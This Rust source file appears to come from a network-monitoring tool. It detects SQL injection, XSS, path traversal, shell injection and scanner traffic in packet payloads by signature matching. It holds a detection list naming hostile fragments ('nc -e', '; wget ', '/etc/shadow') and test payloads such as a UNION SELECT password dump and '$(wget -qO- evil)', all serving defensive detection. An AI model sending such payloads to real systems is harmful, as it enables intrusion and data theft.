//! Payload signatures over the sampled prefix (≤ 64 bytes), matched with
//! one case-insensitive Aho-Corasick automaton: a single pass, no allocation.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

/// What a signature indicates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum SignatureCategory {
    SqlInjection = 0,
    Xss = 1,
    PathTraversal = 2,
    ShellInjection = 3,
    Scanner = 4,
}

impl SignatureCategory {
    pub const ALL: [SignatureCategory; 5] = [
        SignatureCategory::SqlInjection,
        SignatureCategory::Xss,
        SignatureCategory::PathTraversal,
        SignatureCategory::ShellInjection,
        SignatureCategory::Scanner,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            SignatureCategory::SqlInjection => "sql_injection",
            SignatureCategory::Xss => "xss",
            SignatureCategory::PathTraversal => "path_traversal",
            SignatureCategory::ShellInjection => "shell_injection",
            SignatureCategory::Scanner => "scanner",
        }
    }

    /// The signature score a match in this category gives.
    pub const fn severity(self) -> f64 {
        match self {
            SignatureCategory::SqlInjection | SignatureCategory::ShellInjection => 1.0,
            SignatureCategory::PathTraversal => 0.9,
            SignatureCategory::Xss => 0.8,
            SignatureCategory::Scanner => 0.6,
        }
    }
}

/// The set of categories that matched (a bit set; `Copy`, no allocation).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SignatureMatches(u8);

impl SignatureMatches {
    pub fn insert(&mut self, c: SignatureCategory) {
        self.0 |= 1 << c as u8;
    }

    pub fn contains(&self, c: SignatureCategory) -> bool {
        self.0 & (1 << c as u8) != 0
    }

    pub fn is_empty(&self) -> bool {
        self.0 == 0
    }

    /// The categories of both.
    pub fn union(self, other: SignatureMatches) -> SignatureMatches {
        SignatureMatches(self.0 | other.0)
    }

    pub fn iter(&self) -> impl Iterator<Item = SignatureCategory> + '_ {
        SignatureCategory::ALL
            .into_iter()
            .filter(|c| self.contains(*c))
    }

    /// The highest severity among the matches, 0 if none.
    pub fn score(&self) -> f64 {
        self.iter().map(|c| c.severity()).fold(0.0, f64::max)
    }
}

impl std::fmt::Display for SignatureMatches {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        if self.is_empty() {
            return f.write_str("none");
        }
        for (i, c) in self.iter().enumerate() {
            if i > 0 {
                f.write_str(",")?;
            }
            f.write_str(c.name())?;
        }
        Ok(())
    }
}

/// The built-in signatures: (pattern, category). Patterns are matched
/// case-insensitively anywhere in the sampled payload prefix.
pub const BUILTIN: &[(&str, SignatureCategory)] = {
    use SignatureCategory::*;
    &[
        // SQL injection.
        ("union select", SqlInjection),
        ("union all select", SqlInjection),
        ("union%20select", SqlInjection),
        ("union+select", SqlInjection),
        ("' or '1'='1", SqlInjection),
        ("' or 1=1", SqlInjection),
        ("\" or 1=1", SqlInjection),
        ("%27%20or%20", SqlInjection),
        ("or 1=1--", SqlInjection),
        ("';--", SqlInjection),
        ("drop table", SqlInjection),
        ("information_schema", SqlInjection),
        ("sleep(", SqlInjection),
        ("benchmark(", SqlInjection),
        ("waitfor delay", SqlInjection),
        ("xp_cmdshell", SqlInjection),
        // Cross-site scripting.
        ("<script", Xss),
        ("%3cscript", Xss),
        ("javascript:", Xss),
        ("onerror=", Xss),
        ("onload=", Xss),
        ("<iframe", Xss),
        ("document.cookie", Xss),
        ("alert(", Xss),
        // Path traversal.
        ("../", PathTraversal),
        ("..\\", PathTraversal),
        ("..%2f", PathTraversal),
        ("%2e%2e%2f", PathTraversal),
        ("%2e%2e/", PathTraversal),
        ("%252e%252e", PathTraversal),
        ("/etc/passwd", PathTraversal),
        ("/etc/shadow", PathTraversal),
        ("win.ini", PathTraversal),
        // Shell-command injection.
        (";cat ", ShellInjection),
        ("; cat ", ShellInjection),
        ("|cat ", ShellInjection),
        ("| cat ", ShellInjection),
        ("$(", ShellInjection),
        ("`id`", ShellInjection),
        (";id;", ShellInjection),
        ("&& id", ShellInjection),
        ("|sh", ShellInjection),
        ("| sh", ShellInjection),
        ("/bin/sh", ShellInjection),
        ("/bin/bash", ShellInjection),
        ("nc -e", ShellInjection),
        ("; wget ", ShellInjection),
        (";wget ", ShellInjection),
        ("; curl ", ShellInjection),
        ("; rm -rf", ShellInjection),
        ("chmod +x", ShellInjection),
        ("${ifs}", ShellInjection),
        // Scanner banners and user agents.
        ("nmap", Scanner),
        ("masscan", Scanner),
        ("zgrab", Scanner),
        ("sqlmap", Scanner),
        ("nikto", Scanner),
        ("nuclei", Scanner),
        ("zmeu", Scanner),
        ("dirbuster", Scanner),
        ("gobuster", Scanner),
        ("wpscan", Scanner),
        ("acunetix", Scanner),
        ("nessus", Scanner),
        ("openvas", Scanner),
    ]
};

/// A compiled signature set.
#[derive(Debug, Clone)]
pub struct SignatureSet {
    automaton: AhoCorasick,
    categories: Vec<SignatureCategory>,
}

impl SignatureSet {
    /// The [`BUILTIN`] signatures.
    pub fn builtin() -> SignatureSet {
        Self::new(BUILTIN).expect("built-in signatures compile")
    }

    /// The [`BUILTIN`] signatures, compiled once: what `dataset` and a
    /// single-sample Analyze match with (the agent's and `replay`'s
    /// correlators hold the same set).
    pub fn shared() -> &'static SignatureSet {
        static SHARED: std::sync::OnceLock<SignatureSet> = std::sync::OnceLock::new();
        SHARED.get_or_init(SignatureSet::builtin)
    }

    pub fn new(
        patterns: &[(&str, SignatureCategory)],
    ) -> Result<SignatureSet, aho_corasick::BuildError> {
        let automaton = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(patterns.iter().map(|(p, _)| p))?;
        Ok(SignatureSet {
            automaton,
            categories: patterns.iter().map(|(_, c)| *c).collect(),
        })
    }

    /// The categories whose signatures occur in `payload`. An HTTP
    /// request's query values are also matched decoded, and judged by
    /// libinjection ([`super::query`]): at most [`super::query::MAX_JUDGED`]
    /// calls per payload, on the stack.
    pub fn scan(&self, payload: &[u8]) -> SignatureMatches {
        let mut m = SignatureMatches::default();
        // Most samples carry no payload (SYNs, ACKs): no automaton walk.
        if payload.is_empty() {
            return m;
        }
        self.scan_into(payload, &mut m);
        let Some(q) = super::query::query(payload) else {
            return m;
        };
        let mut judged = 0;
        for raw in super::query::values(q) {
            let mut buf = [0u8; phantomnet_common::SAMPLE_PAYLOAD_LEN];
            let value = super::query::decode(raw, &mut buf);
            if value != raw {
                // Encoded: the literal patterns, decoded.
                self.scan_into(value, &mut m);
            }
            if judged < super::query::MAX_JUDGED && super::query::could_be_sql(value) {
                judged += 1;
                if super::query::is_sqli(value) {
                    m.insert(SignatureCategory::SqlInjection);
                }
            }
        }
        m
    }

    fn scan_into(&self, bytes: &[u8], m: &mut SignatureMatches) {
        for hit in self.automaton.find_overlapping_iter(bytes) {
            m.insert(self.categories[hit.pattern().as_usize()]);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use SignatureCategory::*;

    #[test]
    fn each_category_is_detected_in_realistic_payloads() {
        let s = SignatureSet::builtin();
        let cases: &[(&[u8], SignatureCategory)] = &[
            (
                b"GET /item?id=1 UNION SELECT password FROM users HTTP/1.1",
                SqlInjection,
            ),
            (b"POST /login user=admin' OR '1'='1", SqlInjection),
            (b"GET /q?s=<ScRiPt>alert(1)</script> HTTP/1.1", Xss),
            (b"GET /../../../../etc/passwd HTTP/1.1", PathTraversal),
            (
                b"GET /static/%2e%2e%2f%2e%2e%2fboot HTTP/1.1",
                PathTraversal,
            ),
            (
                b"GET /cgi-bin/ping?ip=1.1.1.1;cat /etc/hosts",
                ShellInjection,
            ),
            (b"POST /x cmd=$(wget -qO- evil)", ShellInjection),
            (b"GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7", Scanner),
            (
                b"GET / HTTP/1.0\r\nUser-Agent: Mozilla/5.0 zgrab/0.x",
                Scanner,
            ),
            (b"SSH-2.0-Nmap-SSH2-Hostkey", Scanner),
        ];
        for (payload, cat) in cases {
            let m = s.scan(payload);
            assert!(
                m.contains(*cat),
                "{:?} not found in {}",
                cat,
                String::from_utf8_lossy(payload)
            );
            assert!(m.score() >= cat.severity());
        }
    }

    #[test]
    fn an_encoded_injection_tools_requests_match_once_decoded() {
        let s = SignatureSet::builtin();
        for payload in [
            // sqlmap's boolean, error-based and union probes, as sampled.
            &b"GET /docs/guide.html?id=991%20AND%206215%3D9269&ref=12 HTTP/1.1\r"[..],
            b"GET /docs/guide.html?id=991%27%29%20AND%20EXTRACTVALUE%284939%2C",
            b"GET /d?ref=12&id=991%27%20AND%204883%3D3590%20AND%20%27Zj HTTP/1",
            b"GET /a?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL-- HTTP/1.1",
        ] {
            let m = s.scan(payload);
            assert!(
                m.contains(SqlInjection),
                "{m} in {}",
                String::from_utf8_lossy(payload)
            );
        }
        // The literal patterns also see the decoded query.
        assert!(
            s.scan(b"GET /q?s=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1")
                .contains(Xss)
        );
    }

    #[test]
    fn benign_payloads_do_not_match() {
        let s = SignatureSet::builtin();
        for payload in [
            &b"GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8.5"[..],
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03random-tls-hello",
            b"SSH-2.0-OpenSSH_9.6",
            b"GET /search?q=rock+and+roll&page=2&sort=desc HTTP/1.1\r\n",
            b"GET /shop?q=O%27Reilly+(2nd+ed.)&cat=books HTTP/1.1\r\n",
            // An API client's JSON with quotes and SQL words: a body, not a
            // query, so libinjection does not judge it.
            b"POST /api/v1/notes HTTP/1.1\r\n\r\n{\"note\":\"select 'all' or none\"}",
            b"",
        ] {
            let m = s.scan(payload);
            assert!(m.is_empty(), "{m} in {}", String::from_utf8_lossy(payload));
            assert_eq!(m.score(), 0.0);
        }
    }

    #[test]
    fn several_categories_combine_and_display() {
        let s = SignatureSet::builtin();
        let m = s.scan(b"GET /../x?q=<script> nikto");
        assert!(m.contains(PathTraversal) && m.contains(Xss) && m.contains(Scanner));
        assert!(!m.contains(SqlInjection));
        assert_eq!(m.score(), 0.9);
        assert_eq!(m.to_string(), "xss,path_traversal,scanner");
    }
}
